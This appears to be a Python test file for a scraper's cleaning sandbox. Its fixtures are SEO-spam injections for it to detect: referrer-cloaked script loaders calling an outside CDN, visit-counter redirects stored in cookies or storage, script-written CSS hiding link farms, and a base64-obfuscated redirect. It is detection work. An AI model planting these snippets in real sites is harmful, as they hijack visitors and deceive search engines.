"""The fake browser answers as the served page would (v4 misses 1.A, T2): lookups find only what
the page has, a visitor comes back with the storage and cookies the first visit left, scripts that
act without reading the visitor are run, the CSS they write hides what it hides, and a title only
search visitors get is no restoration. Each page below behaves the same in a real browser."""
from __future__ import annotations

import base64

from scraper.clean import clean_page
from scraper.clean.sandbox import could_act, run_scripts
from tests.clean.conftest import kinds
from tests.clean.test_structural import HEADLINE, URL, page

LOADER_HOST = "cdn.qk7f2m.top"
# a referrer test no text reader recognises as one (the engine names sit in a table of regexes)
SEARCH_TABLE = ("var T=[[/baidu\\./i],[/sogou\\./i],[/bing\\.com/i]];"
                "function hit(r){for(var i=0;i<T.length;i++){if(r.match(T[i][0]))return 1}return 0}")


def lookups(ids: dict[str, str] | None = None, tags: dict[str, int] | None = None) -> dict:
    return {"ids": ids or {}, "tags": tags or {"head": 1, "body": 1, "script": 1}}


# -- 1. lookups: unknown ids are null, the page's ids are elements --------------------------------

GUARDED_LOADER = (f"{SEARCH_TABLE}if(hit(document.referrer)){{var t=window.top.document;"
                  "if(!t.getElementById('x7c1d')){var s=t.createElement('script');s.id='x7c1d';"
                  f"s.setAttribute('src','https://'+'{LOADER_HOST}'+'/j/?t=m');"
                  "t.getElementsByTagName('head')[0].appendChild(s)}}")


def test_already_injected_guard_passes_when_the_page_has_no_such_element():
    a = clean_page(page(head=f"<script>{GUARDED_LOADER}</script>"), url=URL)
    assert {"js_cloak", "spam_script"} <= kinds(a)
    assert any(LOADER_HOST in f.evidence for f in a.findings if f.kind == "spam_script")


def test_guard_holds_when_the_element_is_already_in_the_page():
    run = run_scripts([(0, GUARDED_LOADER)], URL, "", lookups({"x7c1d": "script"}))
    assert not any(e.kind == "load" for effects in run.effects.values() for e in effects)


def test_writing_into_an_element_of_the_page_still_works():
    code = "document.getElementById('news').innerHTML='<a href=\"/a.htm\">通知</a>';document.title='x'"
    run = run_scripts([(0, code)], URL, "", lookups({"news": "div"}))
    assert [e.kind for e in run.effects["spider"]] == ["write", "title"]
    # the same code on a page without that element stops where a browser's would
    run = run_scripts([(0, code)], URL, "", lookups())
    assert run.effects["spider"] == [] and 0 not in run.ran


def test_a_loop_waiting_for_elements_a_fresh_element_lacks_ends():
    # the old IE sniffing loop ran until the time limit when every lookup found an element
    code = ("var v=3,d=document.createElement('div'),all=d.getElementsByTagName('i');"
            "while(d.innerHTML='<!--[if gt IE '+(++v)+']><i></i><![endif]-->',all[0]);document.title='v'+v")
    run = run_scripts([(0, code)], URL, "", lookups())
    assert 0 in run.ran
    assert [e.value for e in run.effects["spider"] if e.kind == "title"] == ["v4"]


# -- 2. a visitor comes back --------------------------------------------------------------------

def test_visit_counter_in_local_storage_acts_on_the_third_visit():
    code = ("(function(){var ua=navigator.userAgent;if(!/Mobile|iPhone|Android/.test(ua))return;"
            f"{SEARCH_TABLE}if(!hit(document.referrer))return;"
            "var v=+(localStorage.getItem('_vc')||0)+1;localStorage.setItem('_vc',v);"
            "if(v>=3){location.href='https://'+'m.ty8k3.vip'+'/?from=s'}})()")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert {"js_cloak", "js_redirect"} <= kinds(a)
    assert any("ty8k3.vip" in f.evidence for f in a.findings if f.kind == "js_redirect")


def test_visit_counter_in_a_cookie_acts_on_the_second_visit():
    code = (f"{SEARCH_TABLE}if(hit(document.referrer)){{"
            "var m=/(?:^|; )n=(\\d+)/.exec(document.cookie),n=m?+m[1]+1:1;"
            "document.cookie='n='+n+';path=/;max-age=86400';"
            "if(n>1)window.location.replace(['https://','ty8k3','.vip/r'].join(''))}")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert {"js_cloak", "js_redirect"} <= kinds(a)


def test_visit_counter_in_session_storage_acts_on_the_second_visit():
    """A visitor who comes back in the same tab keeps sessionStorage too (v5 B4 moved the counter there)."""
    code = (f"{SEARCH_TABLE}if(hit(document.referrer)){{"
            "var k='_sv',v=+(sessionStorage.getItem(k)||0)+1;sessionStorage.setItem(k,v);"
            "if(v>=2){location.href='https://'+'ty8k3'+'.vip/s'}}")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert {"js_cloak", "js_redirect"} <= kinds(a)


def test_analytics_that_store_an_id_and_report_alike_stay_unflagged():
    code = ("var c=document.cookie,id=/_uid=(\\w+)/.exec(c);if(!id){document.cookie='_uid=u'+Math.floor("
            "Math.random()*1e9)}var i=new Image();i.src='https://stat.example-analytics.com/p.gif?r='"
            "+encodeURIComponent(document.referrer)+'&ua='+encodeURIComponent(navigator.userAgent);")
    a = clean_page(page(head=f"<script>{code}</script>"), url=URL)
    assert not a.hijacked


# -- 3. scripts that act without reading the visitor ----------------------------------------------

def test_loader_with_a_computed_address_is_run():
    code = ("window.vq1='m';window.vq2='" + LOADER_HOST + "';var d=document,s=d.createElement('script');"
            "s.setAttribute('src','https://'+window.vq2+'/j/?t='+window.vq1);d.getElementsByTagName('head')[0]"
            ".appendChild(s)")
    assert could_act(code)
    run = run_scripts([(0, code)], URL, "", lookups())
    assert [e.value for e in run.effects["spider"]] == [f"https://{LOADER_HOST}/j/?t=m"]


FARM = ('<div id="k9Qz"><p><a href="https://andriko-pharma.example.gr/">κοιτάξτε εδώ</a></p></div>')
CSS_WRITER = ("function w(){var h=document.getElementsByTagName('hea'+'d')[0];"
              "var r='#k9Qz{margin:0 20px;position:fixed;overflow:hidden;top:-152413851px;display:block}';"
              "var e=document.createElement('st'+'yle');e.type='text/css';if(e.styleSheet){e.styleSheet.cssText=r}"
              "else{e.appendChild(document.createTextNode(r))}h.appendChild(e)}w();")


def test_links_hidden_by_a_style_a_script_writes_are_an_injection():
    a = clean_page(page(body=BODY_WITH(FARM + f"<script>{CSS_WRITER}</script>")), url=URL)
    assert a.hijacked and "hidden_links" in kinds(a)
    assert "κοιτάξτε" not in a.text


def test_links_hidden_by_a_style_property_a_script_sets_are_an_injection():
    code = "var b=document.getElementById('k9Qz');b.style.position='absolute';b.style.left='-9999px';"
    a = clean_page(page(body=BODY_WITH(FARM + f"<script>{code}</script>")), url=URL)
    assert a.hijacked and "κοιτάξτε" not in a.text


def test_a_menu_the_site_hides_with_a_script_is_no_injection():
    menu = '<ul id="subnav"><li><a href="/xwzx/">新闻中心</a></li><li><a href="/zwgk/">政务公开</a></li></ul>'
    code = ("var s=document.createElement('style');s.innerHTML='#subnav{display:none}';"
            "document.head.appendChild(s);document.getElementById('subnav').style.display='none';")
    a = clean_page(page(body=BODY_WITH(menu + f"<script>{code}</script>")), url=URL)
    assert not a.hijacked


# -- 4. a title only search visitors get ----------------------------------------------------------

def test_title_written_for_search_visitors_by_a_redirecting_script_is_spam_not_a_restoration():
    brand = "澜玥汇"
    code = (f"{SEARCH_TABLE}if(hit(document.referrer)){{document.title='{brand}';"
            "setTimeout(function(){location.href='https://fdn'+'nk.xyz/'},1200)}")
    raw = (f'<html><head><meta charset="utf-8"><title>{HEADLINE}_青山区人民政府</title>'
           f'<script>{code}</script></head><body><div class="content">{BODY_TEXT}</div></body></html>').encode()
    a = clean_page(raw, url=URL)
    assert {"js_cloak", "js_redirect"} <= kinds(a)
    assert a.title == HEADLINE


BODY_TEXT = ("<p>3月15日，区政府召开专题会议，研究部署今年城乡环境综合整治工作，区长主持会议并讲话。</p>"
             "<p>会议指出，城乡环境综合整治是一项民心工程，各街道、各部门要对照任务清单，细化工作措施。</p>")


def BODY_WITH(extra: str) -> str:  # noqa: N802 -- reads as the constant it extends
    return BODY_TEXT + extra


def test_a_navigation_for_everyone_to_an_address_no_constant_names_is_a_redirect():
    hidden = base64.b64encode(b"https://www.lucky-hall88.vip/in").decode()
    a = clean_page(page(head=f"<script>var k='{hidden}';setTimeout(function(){{location.href=atob(k)}},10)</script>"),
                   url=URL)
    assert any("lucky-hall88.vip" in f.evidence for f in a.findings if f.kind == "js_redirect")
